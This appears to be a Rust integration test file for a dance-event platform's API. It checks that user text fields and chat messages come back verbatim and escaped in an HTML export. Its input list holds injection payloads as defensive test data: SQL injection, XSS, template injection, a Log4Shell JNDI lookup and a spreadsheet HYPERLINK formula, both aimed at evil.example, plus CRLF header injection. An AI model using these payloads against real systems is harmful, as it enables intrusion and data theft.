//! What people write comes back as they wrote it: to the server it is text, whatever it would
//! mean to a database, a page or a template.

use std::collections::BTreeSet;

use api::router::described;
use domain::values::account::Role;
use reqwest::Method;
use reqwest::header::ACCEPT;
use serde_json::{Value, json};

use crate::gateway::socket::Socket;
use crate::harness::{Answer, Authenticator, Dancer, TestApp, Text};
use crate::passkeys;

const TEXTS: [&str; 14] = [
    "'; DROP TABLE events; --",
    "\" OR \"\" = \"",
    "<script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%00 %0d%0aSet-Cookie: a=b \\u0000",
    "nothing\u{0}after",
    "\u{202e}backwards",
    "💃🏽 👨‍👩‍👧 🕺",
    "Z\u{346}\u{36b}\u{343}\u{36a}a\u{302}lgo",
    "&lt;b&gt; &amp;amp;",
    "=HYPERLINK(\"https://evil.example\")",
];

/// Fields that others, or oneself, get to read.
const READ: &[(&str, &str)] = &[
    ("POST /api/auth/register", "username"),
    ("PATCH /api/users/me", "username"),
    ("PATCH /api/users/me", "avatar"),
    ("PATCH /api/users/me", "country"),
    ("PATCH /api/users/me", "bio"),
    ("PATCH /api/users/me", "socialLinks"),
    ("POST /api/users/me/passkeys", "name"),
    ("POST /api/events", "name"),
    ("POST /api/events", "location"),
    ("POST /api/events", "description"),
    ("POST /api/events", "worldsdcId"),
    ("POST /api/ratings", "comment"),
    ("POST /api/reports", "details"),
    ("PATCH /api/reports/{id}", "resolution"),
    ("POST /api/users/{id}/warnings", "warning"),
    ("POST /api/users/{id}/suspension", "reason"),
];

/// Fields that nobody reads, with what they are instead.
const NOT_READ: &[(&str, &[&str])] = &[
    ("compared", &["email", "password", "current", "pin", "token", "refreshToken", "captcha"]),
    (
        "an id or a key",
        &["eventId", "targetUserId", "matchId", "messageId", "messageKey", "ceremonyId"],
    ),
    ("an id or a key", &["reportedUserId", "transferId", "proof"]),
    ("a day or a moment", &["startDate", "endDate", "until"]),
    ("one of a few words", &["status", "danceRole", "outcome", "direction", "path"]),
    ("one of a few words", &["POST /api/reports reason"]),
    // What a device says of a transfer: only its kind is counted.
    ("sorted into kinds", &["POST /api/webrtc/transfers reason", "browser"]),
];

/// Every text in a body, as the API describes itself: the operation, and the field.
fn described_texts() -> BTreeSet<(String, String)> {
    let (_, document) = described();
    let document = serde_json::to_value(document).expect("JSON");
    let mut texts = BTreeSet::new();
    for (path, item) in document["paths"].as_object().expect("paths") {
        for (method, operation) in item.as_object().expect("an item") {
            let schema = &operation["requestBody"]["content"]["application/json"]["schema"];
            let operation = format!("{} {path}", method.to_uppercase());
            for field in text_fields(&document, schema) {
                texts.insert((operation.clone(), field));
            }
        }
    }
    texts
}

fn resolved<'a>(document: &'a Value, schema: &'a Value) -> &'a Value {
    match schema["$ref"].as_str() {
        Some(reference) => document.pointer(&reference[1..]).expect("a schema"),
        None => schema,
    }
}

fn text_fields(document: &Value, schema: &Value) -> Vec<String> {
    let schema = resolved(document, schema);
    let either = ["oneOf", "anyOf", "allOf"].into_iter();
    let parts = either.filter_map(|one| schema[one].as_array()).flatten();
    let mut fields: Vec<String> = parts.flat_map(|part| text_fields(document, part)).collect();
    for (name, property) in schema["properties"].as_object().into_iter().flatten() {
        if is_text(document, property) {
            fields.push(name.clone());
        }
        fields.extend(text_fields(document, property));
    }
    fields
}

fn is_text(document: &Value, schema: &Value) -> bool {
    let schema = resolved(document, schema);
    let kind = &schema["type"];
    let kinds = kind.as_array().map_or(std::slice::from_ref(kind), Vec::as_slice);
    let either = ["oneOf", "anyOf", "allOf"].into_iter();
    let mut parts = either.filter_map(|one| schema[one].as_array()).flatten();
    let list = schema.get("items").is_some_and(|items| is_text(document, items));
    list || kinds.contains(&json!("string")) || parts.any(|part| is_text(document, part))
}

#[test]
fn every_text_that_the_api_takes_is_either_tried_or_read_by_nobody() {
    let read: BTreeSet<_> =
        READ.iter().map(|(to, field)| ((*to).to_owned(), (*field).to_owned())).collect();
    let not_read: Vec<&str> =
        NOT_READ.iter().flat_map(|(_, fields)| fields.iter().copied()).collect();
    let texts = described_texts();
    for (operation, field) in &texts {
        let tried = read.contains(&(operation.clone(), field.clone()));
        let left = not_read.contains(&field.as_str())
            || not_read.contains(&format!("{operation} {field}").as_str());
        assert!(tried != left, "{operation} takes {field}: who reads it?");
    }
    let gone: Vec<_> = read.difference(&texts).collect();
    assert!(gone.is_empty(), "{gone:?}");
}

/// People who write, and read what others wrote.
struct Hall {
    app: TestApp,
    organizer: Dancer,
    moderator: Dancer,
    ann: Dancer,
    bob: Dancer,
    number: usize,
}

impl Hall {
    async fn new() -> Self {
        let app = TestApp::start().await;
        let (ann, bob, _) = app.two_agreed().await;
        let organizer = app.dancer_with_role("olga", Role::Organizer).await;
        let moderator = app.dancer_with_role("mona", Role::Moderator).await;
        Self { app, organizer, moderator, ann, bob, number: 0 }
    }

    /// Writes `text` there; what was answered, and what whoever reads it is told.
    async fn write(&mut self, to: &str, field: &str, text: &str) -> (Answer, Value) {
        self.number += 1;
        let (method, path) = to.split_once(' ').expect("a method");
        let method: Method = method.parse().expect("a method");
        let (writer, path, mut body) = match path {
            "/api/auth/register" => {
                let email = format!("new{}@example.com", self.number);
                let body = json!({ "username": "x", "email": email, "password": "otters dance" });
                return self.register(field, text, body).await;
            }
            "/api/users/me/passkeys" => return self.passkey(text).await,
            "/api/users/me" => (&self.ann, path.to_owned(), json!({})),
            "/api/events" => {
                let day = "2026-12-04";
                let event = json!({ "name": format!("Swing {}", self.number), "location": "Berlin",
                                    "startDate": day, "endDate": day });
                (&self.organizer, path.to_owned(), event)
            }
            "/api/ratings" => {
                let id = self.danced().await;
                let rating = json!({ "matchId": id, "score": 5, "wouldCollaborateAgain": true });
                (&self.ann, path.to_owned(), rating)
            }
            "/api/reports" => {
                let report = json!({ "reportedUserId": self.bob.id, "reason": "spam" });
                (&self.ann, path.to_owned(), report)
            }
            "/api/reports/{id}" => {
                let report = json!({ "reportedUserId": self.bob.id, "reason": "spam",
                                     "details": format!("the {}th time", self.number) });
                let id = self.ann.post("/api/reports", report).await.created()["id"].text();
                let body = json!({ "status": "resolved", "outcome": "no_action" });
                (&self.moderator, format!("/api/reports/{id}"), body)
            }
            path => (&self.moderator, path.replace("{id}", &self.bob.id), json!({})),
        };
        body[field] = if field == "socialLinks" { json!([text]) } else { text.into() };
        let answer = Answer::to(writer.as_page(method, &path).json(&body)).await;
        let read = if answer.status < 300 {
            self.read(to, &path, &answer, &body).await
        } else {
            Value::Null
        };
        (answer, read)
    }

    async fn register(&self, field: &str, text: &str, mut body: Value) -> (Answer, Value) {
        body[field] = text.into();
        let answer = self.app.stranger().post("/api/auth/register", body).await;
        let read = answer.body.clone();
        (answer, read)
    }

    async fn passkey(&self, text: &str) -> (Answer, Value) {
        let answer = passkeys::named(&self.ann, &mut Authenticator::new(), text).await;
        (answer, self.ann.get("/api/users/me/passkeys").await.ok())
    }

    /// A match of ann and bob that is done.
    async fn danced(&self) -> String {
        let event = self.organizer.announce(&format!("Dance {}", self.number), "2026-12-04").await;
        self.ann.join(&event).await;
        self.bob.join(&event).await;
        let id = self.ann.request(&self.bob, &event).await.created()["id"].text();
        self.bob.move_match(&id, "accepted").await.ok();
        self.ann.move_match(&id, "completed").await.ok();
        id
    }

    async fn read(&self, to: &str, path: &str, answer: &Answer, body: &Value) -> Value {
        let id = answer.body["id"].as_str().unwrap_or_default();
        match to {
            "PATCH /api/users/me" => {
                self.bob.get(&format!("/api/users/{}", self.ann.id)).await.ok()
            }
            "POST /api/events" => self.app.stranger().get(&format!("/api/events/{id}")).await.ok(),
            "POST /api/ratings" => {
                let id = body["matchId"].text();
                self.bob.rate(&id, 5).await.created();
                self.bob.get(&format!("/api/matches/{id}")).await.ok()
            }
            "POST /api/reports" => self.moderator.get(&format!("/api/reports/{id}")).await.ok(),
            "PATCH /api/reports/{id}" => self.moderator.get(path).await.ok(),
            "POST /api/users/{id}/warnings" => self.bob.get("/api/users/me/notices").await.ok(),
            _ => {
                let credentials = json!({ "email": "bob@example.com",
                                          "password": crate::harness::PASSWORD });
                let told = self.app.stranger().post("/api/auth/login", credentials).await;
                self.moderator.delete(path).await;
                told.body
            }
        }
    }
}

/// Whether some text in it is, or holds, `text` to the letter.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(found) => found.contains(text),
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(fields) => fields.values().any(|field| holds(field, text)),
        _ => false,
    }
}

#[tokio::test]
async fn what_people_write_is_never_more_than_text() {
    let mut hall = Hall::new().await;
    for (to, field) in READ {
        let mut taken = 0;
        for text in TEXTS {
            let (answer, read) = hall.write(to, field, text).await;
            if answer.status < 300 {
                taken += 1;
                assert!(holds(&read, text), "{to} {field} {text:?}: {read}");
            } else {
                assert_eq!(answer.problem(), "invalid", "{to} {field} {text:?}");
                assert_eq!(answer.fields(), [*field], "{to} {text:?}");
            }
        }
        println!("{to} {field}: {taken} of {} taken", TEXTS.len());
        // Some are of a form that none of these has; the others take all that fit in.
        let is_free = !matches!(*field, "username" | "avatar" | "country" | "socialLinks");
        assert_eq!(taken > TEXTS.len() - 4, is_free, "{to} {field} takes {taken}");
    }
    // Nothing has gone, and those whose names are odd are found.
    hall.bob.get("/api/events").await.ok();
    assert!(hall.app.log_length().await > 100);
}

#[tokio::test]
async fn what_people_say_in_rooms_is_never_more_than_text() {
    let app = TestApp::start().await;
    let (ann, bob, id) = app.two_agreed().await;
    let event = ann.get(&format!("/api/matches/{id}")).await.ok()["event"]["id"].text();
    let mut socket = Socket::open(&ann).await;
    socket.enter(&event).await;
    socket.enter_private(&id).await;
    for text in TEXTS {
        let rooms = [
            ("send_event_message", "eventId", &event, format!("/api/events/{event}/messages")),
            ("send_private_message", "matchId", &id, format!("/api/matches/{id}/messages")),
        ];
        for (frame, room, id, page) in rooms {
            let said = json!({ room: id, "content": text });
            match socket.ask(frame, said).await {
                Ok(message) => {
                    assert_eq!(message["content"], text);
                    assert!(holds(&bob.get(&page).await.ok(), text), "{frame} {text:?}");
                }
                Err(code) => {
                    assert_eq!(code, "invalid", "{frame} {text:?}");
                    assert!(text.contains(char::is_control), "{frame} {text:?}");
                }
            }
        }
    }

    let page = ann.as_page(Method::GET, "/api/users/me/export").header(ACCEPT, "text/html");
    let page = Answer::to(page).await.body.text();
    assert!(page.contains("&lt;script&gt;alert(1)") && page.contains("DROP TABLE"), "{page}");
    for live in ["<script>alert", "<img src=x", "</textarea>"] {
        assert!(!page.contains(live), "{live}");
    }
}
